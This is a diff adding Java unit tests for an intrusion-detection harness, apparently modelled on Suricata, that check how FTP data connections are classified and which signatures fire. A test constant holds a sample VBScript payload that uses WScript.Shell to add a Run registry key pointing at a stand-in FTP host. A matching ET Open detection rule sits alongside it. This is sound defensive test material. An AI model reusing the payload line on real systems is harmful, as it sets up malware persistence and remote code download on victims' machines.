@@ -88,4 +88,78 @@ class FtpDetectTest {
         assertEquals(List.of("2@13#2"), run(session("PORT 10,0,0,1,4,1\r\n", reply("200 ok\r\n"), "PORT 9,9,9,9,4,1\r\n",
                 reply("200 ok\r\n"))));
     }
+
+    // ---- data connections (ftp-data); the sessions of the reference capture, each alone
+
+    private static final String VBS = "Set x = CreateObject(\"WScript.Shell\")\r\nx.Run \"cmd /c reg add HKCU\\Run /d "
+            + "ftp://abcdefgh.com/pay.vbs\"\r\nFILEDATA\r\n";
+    private static final String[] DATA_RULES = {
+        // ET Open sid 2034695's options
+        "alert ftp-data any any -> any any (flow:established,to_client; content:\"CreateObject(|22|WScript.Shell|22|)\"; "
+                + "content:\"reg add\"; nocase; fast_pattern; content:\"ftp://\"; distance:0; within:200; "
+                + "pcre:\"/[a-z]{8}.[a-z]{3}/Ri\"; sid:2034695;)",
+        "alert ftp-data any any -> any any (content:\"FILEDATA\"; sid:10;)",
+        "alert ftp any any -> any any (content:\"FILEDATA\"; sid:12;)",
+        "alert tcp any any -> any any (content:\"FILEDATA\"; sid:14;)"};
+
+    private static TcpSession control(Trace t, int port) {
+        TcpSession s = new TcpSession(t, DetectHarness.CLIENT, port, DetectHarness.SERVER, 21, 1000, 5000).mss(1400)
+                .handshake();
+        s.serverSends(b("220 ftp ready\r\n")).clientSends(b("USER a\r\n")).serverSends(b("331 p\r\n"))
+                .clientSends(b("PASS b\r\n")).serverSends(b("230 ok\r\n"));
+        return s;
+    }
+
+    private static List<String> runData(Trace t) {
+        DetectHarness h = new DetectHarness(DATA_RULES);
+        assertEquals(List.of(), h.plan.skipped(), "ftp-data rules load");
+        h.run(t);
+        return h.txAlerts.stream().sorted().toList();
+    }
+
+    @Test
+    void aPassiveDownloadsConnectionIsFtpData() {
+        Trace t = new Trace(1_700_000_000_000_000L, 1000);
+        TcpSession s = control(t, 44001);
+        s.clientSends(b("PASV\r\n")).serverSends(b("227 Entering Passive Mode (192,0,2,10,195,80).\r\n"));
+        TcpSession d = new TcpSession(t, DetectHarness.CLIENT, 45001, DetectHarness.SERVER, 50000, 7000, 9000).mss(1400)
+                .handshake();
+        s.clientSends(b("RETR evil.vbs\r\n")).serverSends(b("150 opening\r\n"));
+        d.serverSends(b(VBS)).close();
+        s.serverSends(b("226 done\r\n")).clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
+        // the reference: all three on the data server's FIN (the stream is inspected at the close);
+        // an "ftp" rule does not apply to the data connection
+        assertEquals(List.of("10@28", "14@28", "2034695@28"), runData(t));
+    }
+
+    @Test
+    void anActiveDownloadsConnectionFromTheServerIsFtpData() {
+        Trace t = new Trace(1_700_000_000_000_000L, 1000);
+        TcpSession s = control(t, 44003);
+        s.clientSends(b("PORT 10,0,0,1,195,81\r\n")).serverSends(b("200 ok\r\n")).clientSends(b("RETR a.vbs\r\n"))
+                .serverSends(b("150 opening\r\n"));
+        new TcpSession(t, DetectHarness.SERVER, 20, DetectHarness.CLIENT, 50001, 7000, 9000).mss(1400).handshake()
+                .clientSends(b(VBS)).close();
+        s.serverSends(b("226 done\r\n")).clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
+        // the data flows to the data connection's server (the FTP client): not sid 2034695's to_client
+        assertEquals(List.of("10@27", "14@27"), runData(t));
+    }
+
+    @Test
+    void aDataConnectionNoTransferAnnouncedIsNotFtpData() {
+        Trace t = new Trace(1_700_000_000_000_000L, 1000);
+        TcpSession s = control(t, 44006);
+        s.clientSends(b("PASV\r\n")).serverSends(b("227 Entering Passive Mode (192,0,2,10,195,100)\r\n"));
+        new TcpSession(t, DetectHarness.CLIENT, 45006, DetectHarness.SERVER, 50020, 7000, 9000).mss(1400).handshake()
+                .serverSends(b("FILEDATA y\r\n")).close();
+        s.clientSends(b("QUIT\r\n")).serverSends(b("221 bye\r\n")).close();
+        assertEquals(List.of("14@24"), runData(t));
+    }
+
+    @Test
+    void aTransferWithoutADataPortEndsTheParser() {
+        // Suricata's parser errors on the RETR; the PORT bounce after it is not seen
+        assertEquals(List.of(), run(session("RETR c.txt\r\n", reply("425 no\r\n"), "PORT 9,9,9,9,4,1\r\n",
+                reply("200 ok\r\n"))));
+    }
 }
